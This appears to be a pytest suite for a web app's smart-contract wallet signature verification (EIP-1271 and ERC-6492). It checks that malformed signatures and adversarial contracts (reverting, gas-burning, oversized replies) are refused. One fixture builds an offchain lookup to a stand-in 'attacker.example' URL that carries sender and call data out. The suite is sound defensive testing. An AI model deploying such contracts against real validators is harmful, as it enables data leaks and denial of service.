"""A wallet vouches, deployed or not, or it does not: of all that contracts answer, one thing means yes."""

import re
from pathlib import Path

import pytest
from eth_hash.auto import keccak

from tests.support.chain import contracts
from tests.support.chain.anvil import CHAIN_ID, Anvil
from tests.support.chain.wallets import CODE, DIGEST, OWNER, STRANGER, Undeployed, asked, signed, standing
from tests.support.places import ROOT
from webapp.chain.contract_wallets import ContractWallets
from webapp.chain.node import Node
from webapp.chain.wallet_call import wallet_call
from webapp.protocol.address import Address

# --- whether it stands ---


def test_a_node_tells_whether_a_wallet_stands_whatever_it_says(anvil: Anvil) -> None:
    """Its code counts before anything is deployed: a signature that deploys makes no difference."""
    node = Node(CHAIN_ID, anvil.url, allow_private=False)

    def answer(address: str, signature: bytes) -> tuple[bool, bool]:
        data = wallet_call(Address.parse(address), DIGEST, signature)
        assert data is not None
        told = node.ask(data, seconds=5)
        return told.is_valid, told.stands

    for wallet, stands in ((Undeployed(), False), (standing(anvil), True)):
        assert answer(wallet.address, wallet.wrapped(signed(OWNER))) == (True, stands)
        assert answer(wallet.address, wallet.wrapped(signed(STRANGER))) == (False, stands)
        assert answer(wallet.address, signed(OWNER)) == (stands, stands)
        assert answer(wallet.address, signed(STRANGER)) == (False, stands)
    node.close()


# --- EIP-1271 ---


def test_a_deployed_wallet_vouches_for_what_its_owner_signed(anvil: Anvil, wallets: ContractWallets) -> None:
    wallet = standing(anvil)
    assert asked(wallets, wallet.address, signed(OWNER))


@pytest.mark.parametrize(
    ("signature", "digest"),
    [
        (signed(STRANGER), DIGEST),
        (signed(OWNER), DIGEST[::-1]),
        (signed(OWNER, "another text"), DIGEST),
        (signed(OWNER)[:-1], DIGEST),
        (b"", DIGEST),
        (bytes(8192), DIGEST),
    ],
    ids=["a stranger's", "another digest", "another text", "cut short", "empty", "long"],
)
def test_it_vouches_for_nothing_else(
    signature: bytes, digest: bytes, anvil: Anvil, wallets: ContractWallets
) -> None:
    assert not asked(wallets, anvil.put(CODE), signature, digest)


def test_where_nothing_stands_nobody_vouches(wallets: ContractWallets) -> None:
    assert not asked(wallets, Undeployed().address, signed(OWNER))
    assert not asked(wallets, OWNER.address, signed(OWNER))


@pytest.mark.parametrize("number", range(0x12))
def test_no_precompiled_contract_vouches(number: int, wallets: ContractWallets) -> None:
    """The identity contract, 4, answers the question itself, which begins with the magic value."""
    assert not asked(wallets, f"0x{number:040x}", signed(OWNER))
    wrapped = contracts.wrapped(signed(OWNER), b"", f"0x{number:040x}")
    assert not asked(wallets, f"0x{number:040x}", wrapped)


HOSTILE = {
    "answers nothing": contracts.ANSWERS_NOTHING,
    "answers true": contracts.ANSWERS_TRUE,
    "answers four bytes": contracts.ANSWERS_FOUR_BYTES,
    "answers two words": contracts.ANSWERS_TWO_WORDS,
    "answers the magic value at the wrong end": contracts.ANSWERS_MAGIC_AT_THE_WRONG_END,
    "answers the magic value and more": contracts.ANSWERS_MAGIC_AND_MORE,
    "answers the question": contracts.ANSWERS_THE_QUESTION,
    "answers a megabyte": contracts.ANSWERS_A_MEGABYTE,
    "reverts": contracts.REVERTS,
    "reverts with the magic value": contracts.REVERTS_WITH_MAGIC,
    "reverts with a megabyte": contracts.REVERTS_WITH_A_MEGABYTE,
    "asks to fetch a URL": contracts.offchain_lookup("https://attacker.example/{sender}/{data}"),
    "burns all gas": contracts.BURNS_ALL_GAS,
    "is invalid": contracts.INVALID,
    "writes": contracts.WRITES,
    "vouches where nobody in particular asks": contracts.VOUCHES_IN_SIMULATIONS,
}


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_contract_that_nearly_vouches_does_not(code: bytes, anvil: Anvil, wallets: ContractWallets) -> None:
    """And what it does is a refusal, never a fault of the node's."""
    assert not asked(wallets, anvil.put(code), signed(OWNER))


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
def test_nor_does_it_undeployed(code: bytes, wallets: ContractWallets) -> None:
    wallet = Undeployed(code)
    assert not asked(wallets, wallet.address, wallet.wrapped(signed(OWNER)))


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
def test_nor_as_the_deployer_of_a_wallet(code: bytes, anvil: Anvil, wallets: ContractWallets) -> None:
    wrapped = contracts.wrapped(signed(OWNER), b"x", anvil.put(code))
    assert not asked(wallets, Undeployed().address, wrapped)
    assert asked(wallets, anvil.put(CODE), wrapped), "a deployed wallet needs no deployer"


def test_not_even_with_a_deployer_does_a_contract_use_up_the_gas_for_an_answer(
    anvil: Anvil, wallets: ContractWallets
) -> None:
    """Wallet, deployer, and the wallet again: whatever each may burn, the question gets its answer."""
    burner = anvil.put(contracts.BURNS_ALL_GAS)
    assert not asked(wallets, burner, contracts.wrapped(signed(OWNER), b"x", burner))
    assert not asked(wallets, burner, contracts.wrapped(bytes(4096), bytes(4096), burner))


def test_a_contract_that_vouches_for_all_is_its_own_affair(anvil: Anvil, wallets: ContractWallets) -> None:
    assert asked(wallets, anvil.put(contracts.VOUCHES_FOR_ALL), b"")


# --- ERC-6492 ---


def test_an_undeployed_wallet_vouches_and_stays_undeployed(anvil: Anvil, wallets: ContractWallets) -> None:
    wallet = Undeployed()
    assert asked(wallets, wallet.address, wallet.wrapped(signed(OWNER)))
    assert anvil.code(wallet.address) == "0x"
    assert anvil.ask("eth_blockNumber") == anvil.ask("eth_blockNumber")


def test_a_wrapped_signature_is_good_after_deployment_too(anvil: Anvil, wallets: ContractWallets) -> None:
    wallet = standing(anvil)
    assert asked(wallets, wallet.address, wallet.wrapped(signed(OWNER)))
    assert not asked(wallets, wallet.address, wallet.wrapped(signed(STRANGER)))


def test_a_deployed_wallet_may_need_to_be_prepared(anvil: Anvil, wallets: ContractWallets) -> None:
    """As ERC-6492 says: if a deployed one refuses, the call that came along is made, and it is asked anew."""
    address = anvil.put(contracts.VOUCHES_ONCE_PREPARED)
    assert not asked(wallets, address, b"")
    assert asked(wallets, address, contracts.wrapped(b"", b"", address))
    assert not asked(wallets, address, b""), "nothing of it stays"


def test_an_undeployed_wallet_vouches_for_nothing_else(wallets: ContractWallets) -> None:
    wallet, other = Undeployed(), Undeployed()
    assert not asked(wallets, wallet.address, wallet.wrapped(signed(STRANGER)))
    assert not asked(wallets, wallet.address, wallet.wrapped(signed(OWNER)), DIGEST[::-1])
    assert not asked(wallets, wallet.address, other.wrapped(signed(OWNER)))
    assert not asked(wallets, OWNER.address, wallet.wrapped(signed(OWNER)))
    assert not asked(wallets, f"0x{0:040x}", wallet.wrapped(bytes(65)))


GOOD = Undeployed()
GOOD_SIGNATURE = GOOD.wrapped(signed(OWNER))


@pytest.mark.parametrize(
    "signature",
    [
        GOOD_SIGNATURE[-32:],
        GOOD_SIGNATURE[:96] + GOOD_SIGNATURE[-32:],
        GOOD_SIGNATURE[32:],
        b"\1" + GOOD_SIGNATURE[1:],
        GOOD_SIGNATURE[:32] + b"\xff" * 32 + GOOD_SIGNATURE[64:],
        GOOD_SIGNATURE[:96] + b"\xff" * 32 + GOOD_SIGNATURE[128:],
        GOOD_SIGNATURE[:-64] + GOOD_SIGNATURE[-32:],
    ],
    ids=["suffix only", "head only", "no factory", "no address", "offset", "length", "cut short"],
)
def test_a_wrapping_that_cannot_be_read_is_vouched_for_by_nobody(
    signature: bytes, anvil: Anvil, wallets: ContractWallets
) -> None:
    assert asked(wallets, GOOD.address, GOOD_SIGNATURE)
    assert not asked(wallets, GOOD.address, signature)
    assert not asked(wallets, anvil.put(contracts.VOUCHES_FOR_ALL), signature)


# --- the reference ---


def reference() -> bytes:
    """The validator of ERC-6492 as viem carries it."""
    source = (ROOT / Path("node_modules/viem/constants/contracts.ts")).read_text(encoding="utf-8")
    found = re.search(r"erc6492SignatureValidatorByteCode\s*=\s*'0x([0-9a-f]+)'", source)
    assert found
    return bytes.fromhex(found[1])


def test_the_answers_are_those_of_the_reference(anvil: Anvil, wallets: ContractWallets) -> None:
    validator, deployed, undeployed = reference(), anvil.put(CODE), Undeployed()

    def referred(address: str, signature: bytes, digest: bytes) -> bool:
        words = (bytes.fromhex(address[2:]).rjust(32, b"\0"), digest, (96).to_bytes(32, "big"))
        counted = len(signature).to_bytes(32, "big") + signature + bytes(-len(signature) % 32)
        data = validator + b"".join(words) + counted
        reply = anvil.reply("eth_call", {"data": f"0x{data.hex()}"}, "latest")
        return reply.get("result") == "0x01"

    good, bad = signed(OWNER), signed(STRANGER)
    prepared = anvil.put(contracts.VOUCHES_ONCE_PREPARED)
    cases = [
        (deployed, good),
        (deployed, bad),
        (deployed, undeployed.wrapped(good)),
        (deployed, undeployed.wrapped(bad)),
        (undeployed.address, undeployed.wrapped(good)),
        (undeployed.address, undeployed.wrapped(bad)),
        (undeployed.address, Undeployed().wrapped(good)),
        (prepared, contracts.wrapped(b"1", b"", prepared)),
        (anvil.put(contracts.REVERTS), good),
        (anvil.put(contracts.ANSWERS_TRUE), good),
        (anvil.put(contracts.ANSWERS_MAGIC_AND_MORE), good),
    ]
    answers = [
        (asked(wallets, address, signature, digest), referred(address, signature, digest))
        for address, signature in cases
        for digest in (DIGEST, keccak(b"another"))
    ]
    assert [ours for ours, _ in answers] == [theirs for _, theirs in answers]
    assert {ours for ours, _ in answers} == {True, False}
